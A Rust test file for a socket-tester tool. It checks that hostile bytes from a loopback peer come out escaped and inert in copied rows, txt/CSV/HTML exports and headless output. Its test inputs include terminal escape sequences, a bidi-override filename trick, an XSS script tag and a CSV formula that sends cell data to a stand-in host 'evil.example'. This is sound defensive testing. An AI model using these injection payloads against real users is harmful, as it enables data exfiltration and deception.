//! Hostile bytes stay inert: a real peer on loopback sends terminal escapes (ESC `[31m`,
//! BEL, CR, NUL, DEL, the C1 CSI U+009B as UTF-8 text), a bidi override (U+202E), a
//! spreadsheet formula and an HTML `<script>`. The txt export, the window's Copy / Copy all
//! (`format_row_text`, `write_log`) and headless output hold no raw control character
//! (but each line's newline) and show every one escaped; the CSV cells cannot start a
//! formula and the HTML holds no live tag.

use socket_tester::codec::Encoding;
use socket_tester::log::export::export_file;
use socket_tester::net::Role;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, UdpSocket};
use std::path::Path;
use std::process::{Command, Stdio};

use crate::support as common;

/// What the peer sends, as UTF-8.
const HOSTILE: &str =
    "red:\x1b[31m bell:\x07 cr:\r nul:\0 del:\x7f csi:\u{9b}2J bidi:\u{202e}gpj.exe end";
/// How each hostile character must read in text output.
const SHOWN: [&str; 7] = [
    "\\x1b[31m",
    "\\x07",
    "\\r",
    "\\0",
    "\\x7f",
    "\\u{9b}2J",
    "\\u{202e}gpj.exe",
];
const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
const SCRIPT: &str = "<script>alert('pwned')</script>";

/// Fails if `text` holds a character a terminal or viewer would act on: a control
/// character other than the newline ending a line, or a bidi override.
fn assert_inert(what: &str, text: &str) {
    for (n, line) in text.split('\n').enumerate() {
        if let Some(c) = line
            .chars()
            .find(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(c))
        {
            panic!("{what}, line {}: raw {c:?} in {line:?}", n + 1);
        }
    }
}

fn assert_shows_every_escape(what: &str, text: &str) {
    for s in SHOWN {
        assert!(text.contains(s), "{what} lacks {s:?}: {text}");
    }
}

/// A UDP receiver session (the window's runtime, spooling) takes the hostile datagrams
/// from a real peer; its rows as Copy and Copy all make them, and its spool exported as
/// Save log… does, are inert.
#[test]
fn a_udp_peer_cannot_drive_a_terminal_through_copy_or_the_exports() {
    let dir = tempfile::tempdir().unwrap();
    let mut rt = common::runtime(Role::UdpReceiver, Some(&dir.path().join("data")));
    let to = common::bound_udp_receiver(&rt, None);
    let peer = UdpSocket::bind("127.0.0.1:0").unwrap();
    for d in [HOSTILE, FORMULA, SCRIPT, "-2+3", "@SUM(A1:A9)"] {
        peer.send_to(d.as_bytes(), to).unwrap();
    }
    let st = common::wait_runtime(&rt, "every datagram on disk", |st, rx| {
        rx >= 5 && st.unsaved() == 0
    });
    let spool = st.spool_path.clone().expect("a spool");

    // Copy (one row) and Copy all (every row, joined), as the log view makes them.
    let rows: Vec<_> = rt.view().store.iter().cloned().collect();
    let copied: Vec<String> = rows
        .iter()
        .map(socket_tester::ui::format_row_text)
        .collect();
    let hostile_row = copied
        .iter()
        .find(|l| l.contains("red:"))
        .expect("the hostile row");
    assert_inert("Copy", hostile_row);
    assert_shows_every_escape("Copy", hostile_row);
    assert_inert("Copy all", &copied.join("\n"));
    // The rows saved to .txt from the window.
    let saved = dir.path().join("rows.txt");
    socket_tester::ui::write_log(&saved, &rows, Encoding::UTF_8).unwrap();
    let saved = std::fs::read_to_string(saved).unwrap();
    assert_inert("rows saved as txt", &saved);
    assert_shows_every_escape("rows saved as txt", &saved);

    // The spool exported (what Save log… writes).
    let txt = dir.path().join("out.txt");
    export_file(&spool, &txt, None, socket_tester::i18n::english).unwrap();
    let txt = std::fs::read_to_string(txt).unwrap();
    assert_inert("txt export", &txt);
    assert_shows_every_escape("txt export", &txt);
    check_csv_and_html(&spool, dir.path());
    rt.shutdown();
}

/// CSV: no cell starts a formula, no raw ESC; HTML: the script is text, not a tag.
fn check_csv_and_html(input: &Path, dir: &Path) {
    let csv = dir.join("out.csv");
    export_file(input, &csv, None, socket_tester::i18n::english).unwrap();
    let csv = std::fs::read_to_string(csv).unwrap();
    assert!(
        csv.contains("'=HYPERLINK("),
        "the formula neutralised: {csv}"
    );
    assert!(
        csv.contains("'-2+3") && csv.contains("'@SUM(A1:A9)"),
        "{csv}"
    );
    for bad in [",=", ",\"=", ",-2", ",@", ",+"] {
        assert!(
            !csv.contains(bad),
            "a cell starts a formula ({bad:?}): {csv}"
        );
    }
    assert!(!csv.contains('\x1b') && !csv.contains('\x07') && !csv.contains('\u{202e}'));
    assert!(
        csv.contains("\\x1b[31m"),
        "ESC shown escaped in the text cell"
    );
    let html = dir.join("out.html");
    export_file(input, &html, None, socket_tester::i18n::english).unwrap();
    let html = std::fs::read_to_string(html).unwrap();
    assert!(!html.contains("<script>alert"), "a live script tag");
    assert!(html.contains("&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;"));
    assert!(!html.contains('\x1b') && !html.contains('\u{202e}'));
}

/// The real binary as a TCP client against a hostile server: headless output is inert,
/// and so is `socket-tester export … --to out.txt` of its `--record`.
#[test]
fn a_tcp_peer_cannot_drive_a_terminal_through_headless_output_or_the_txt_export() {
    let dir = tempfile::tempdir().unwrap();
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = server.local_addr().unwrap();
    let peer = std::thread::spawn(move || {
        let (mut s, _) = server.accept().unwrap();
        s.write_all(HOSTILE.as_bytes()).unwrap();
        // Closing ends the client's session.
    });
    let rec = dir.path().join("rec.jsonl");
    let mut child = Command::new(env!("CARGO_BIN_EXE_socket-tester"))
        .args(["tcp-client", "--connect", &addr.to_string(), "--headless"])
        .args(["--duration", "10s", "--record", rec.to_str().unwrap()])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = String::new();
    for line in BufReader::new(child.stdout.take().unwrap()).lines() {
        let line = line.unwrap();
        out.push_str(&line);
        out.push('\n');
        if line.contains("closed") {
            break;
        }
    }
    // The session ends by itself once the peer closed; killing it at once could beat the
    // record's last write (the export below reads the record).
    let t = std::time::Instant::now();
    while child.try_wait().ok().flatten().is_none()
        && t.elapsed() < std::time::Duration::from_secs(10)
    {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let _ = child.kill();
    let _ = child.wait();
    peer.join().unwrap();
    assert_inert("headless output", &out);
    assert_shows_every_escape("headless output", &out);
    let txt = dir.path().join("out.txt");
    common::run_export(
        Command::new(env!("CARGO_BIN_EXE_socket-tester")),
        &rec,
        &txt,
    );
    let txt = std::fs::read_to_string(txt).unwrap();
    assert_inert("txt export of the record", &txt);
    assert_shows_every_escape("txt export of the record", &txt);
    // The record itself keeps the exact bytes.
    let hex: String = HOSTILE.bytes().map(|b| format!("{b:02x}")).collect();
    assert!(std::fs::read_to_string(&rec).unwrap().contains(&hex));
}
